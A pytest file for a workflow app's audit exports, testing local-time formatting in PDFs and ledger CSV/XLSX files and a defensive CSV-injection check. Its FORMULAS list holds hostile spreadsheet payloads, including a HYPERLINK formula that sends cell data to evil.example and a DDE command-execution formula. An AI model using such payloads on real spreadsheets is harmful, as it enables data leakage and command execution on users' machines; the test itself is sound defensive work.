"""Times in what people take away (the dossier PDF, ledger CSV and XLSX, the audit search's
summaries) are local, with the zone named: an instance started at 16:30 UTC on 30 November
reads "2026-12-01 00:30 (Asia/Shanghai)", or sits under a heading that names the zone.
Machine-readable JSON (the API, the JSON Lines export) stays UTC ISO."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest

from engine.store import users as user_store
from tests.helpers.pdf import pdf_text
from tests.helpers.service import add_users, answers, play
from tests.helpers.time import Clock
from tests.web.test_audit_web import login
from web import create_app

PID = "after-sales-inspection"
STARTED = datetime(2026, 11, 30, 16, 30, tzinfo=UTC)  # 00:30 on 1 December in Beijing


@pytest.fixture
def app(db_url, tmp_path):
    clock = Clock(STARTED)
    app = create_app({"TESTING": True, "WF_CLOCK": clock, "WF_OVERRIDES": {
        "database.url": db_url, "paths.uploads": str(tmp_path / "uploads"), "locale": "zh"}})
    sessions = app.extensions["services"].database.sessions
    add_users(sessions, ["inspector1", "supervisor1"])
    with sessions.begin() as s:
        user_store.add_user(s, "aud", "pw-aud", ["auditors"], full_name="审计员")
    app.config["DONE"] = play(app.extensions["workflow"], sessions, answers(f"{PID}--fail"))["id"]
    yield app
    app.extensions["services"].database.engine.dispose()


def test_the_dossier_pdf_names_the_zone(app):
    b = login(app, "aud")
    r = b.c.get(f"/audit/instances/{app.config['DONE']}.pdf")
    assert r.status_code == 200
    text = pdf_text(r.data)
    assert "2026-12-01 00:30 (Asia/Shanghai)" in text, text  # started, in Beijing time
    assert "2026-11-30 16:30" not in text  # never the UTC reading
    assert re.search(r"^时间 \(Asia/Shanghai\)$", text, re.M), text  # the timeline's heading
    footer = [line for line in text.splitlines() if "打印时间" in line]  # on every page
    assert len(footer) >= 2 and all("打印时间 2026-12-01 00:30 (Asia/Shanghai) · " in line for line in footer), footer


def test_ledger_exports_are_local_under_headings_naming_the_zone(app):
    b = login(app, "aud")
    text = b.get(f"/ledgers/{PID}.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    col = rows[0].index("登记时间 (Asia/Shanghai)")
    assert rows[1][col] == "2026-12-01 00:30"
    x = b.c.get(f"/ledgers/{PID}.xlsx")
    openpyxl = pytest.importorskip("openpyxl")
    values = [list(r) for r in openpyxl.load_workbook(io.BytesIO(x.data), read_only=True).active.iter_rows(values_only=True)]
    assert values[0][col] == "登记时间 (Asia/Shanghai)" and values[1][col] == "2026-12-01 00:30"
    # the file is named by the local day
    assert "20261201" in b.c.get(f"/ledgers/{PID}.csv").headers["Content-Disposition"]
    # a status in words, as on the page (the export said "completed")
    status = rows[0].index("状态")
    assert rows[1][status] == "已完成" and values[1][status] == "已完成"
    assert "已完成" in b.get(f"/ledgers/{PID}").text


def test_an_approvals_decision_reads_as_a_word_in_the_ledger():
    """An approval's decision is stored as approve/reject; a ledger column of it read 'approve'
    on a Chinese page. One rule for the page and the exports (engine.app.ledgers.cell_words)."""
    from engine import i18n
    from engine.app.ledgers import cell_words
    from tests.language.test_shipped_procedures import LIB

    proc = LIB.procedures[PID]
    try:
        i18n.set_locale("zh")
        assert cell_words(proc, "review.decision", "approve") == "批准"
        assert cell_words(proc, "review.decision", "reject") == "驳回"
        assert cell_words(proc, "instance.status", "cancelled") == "已取消"
        assert cell_words(proc, "inspect.verdict", "approve") == "approve"  # a value someone typed
        i18n.set_locale("en")
        assert cell_words(proc, "review.decision", "approve") == "approve"
    finally:
        i18n.reset()


def test_audit_summaries_show_due_times_locally_and_the_api_stays_utc(app):
    b = login(app, "aud")
    page = b.get("/audit", query_string={"type": "task:created"}).text
    dues = re.findall(r"期限: (\d{4}-\d\d-\d\d \d\d:\d\d) \(Asia/Shanghai\)", page)  # 期限: due_at, labelled
    assert dues, page
    c = app.test_client()
    token = c.post("/api/v1/auth/token", json={"username": "aud", "password": "pw-aud"}).json["token"]
    body = c.get(f"/api/v1/instances/{app.config['DONE']}", headers={"Authorization": f"Bearer {token}"}).json
    assert body["started_at"].startswith("2026-11-30T16:30")  # machine-readable: UTC ISO


def test_the_dossier_pdf_keeps_units_specifications_flags_and_tables(app):
    """Issue 18: the PDF dropped units and out-of-spec flags and flattened tables into
    semicolon text; printed and on screen must say the same."""
    b = login(app, "aud")
    text = pdf_text(b.c.get(f"/audit/instances/{app.config['DONE']}.pdf").data)
    page = b.get(f"/audit/instances/{app.config['DONE']}").text
    # the inspection's table: its column headings on their own, its cells as cells
    for heading in ("检验项目", "检验方法", "标准要求", "实测值", "结果"):
        assert re.search(rf"^{heading}$", text, re.M), heading
    assert "项目: " not in text and "; 检验方法" not in text
    # a measurement with its unit and the specification it was measured against
    assert re.search(r"23\.5 ℃ +\(规格: 15 ~ 35 ℃\)", text), text
    assert "规格: 15 ~ 35 ℃" in page


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"查看")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_text_an_operator_typed_is_never_a_formula_in_the_ledger_exports(app, typed):
    """CSV injection: the customer an operator types reaches a manager's Excel through the
    ledger export. The CSV holds it behind a ' (shown as text, hidden by Excel); the XLSX
    holds it as a string cell, never a formula or a link."""
    data = dict(answers(f"{PID}--fail")["start"]["data"], customer=typed)
    with app.extensions["services"].database.writing() as s:
        app.extensions["workflow"].start(s, PID, "inspector1", data)
    b = login(app, "aud")
    rows = list(csv.reader(io.StringIO(b.get(f"/ledgers/{PID}.csv").text.lstrip("\ufeff"))))
    col = rows[0].index("客户")
    assert "'" + typed in [r[col] for r in rows[1:]], rows
    assert typed not in [r[col] for r in rows[1:]]
    x = b.c.get(f"/ledgers/{PID}.xlsx")
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(io.BytesIO(x.data)).active
    cells = [row[col] for row in sheet.iter_rows(min_row=2)]
    assert typed in [c.value for c in cells] and all(c.data_type == "s" for c in cells), \
        [(c.value, c.data_type) for c in cells]
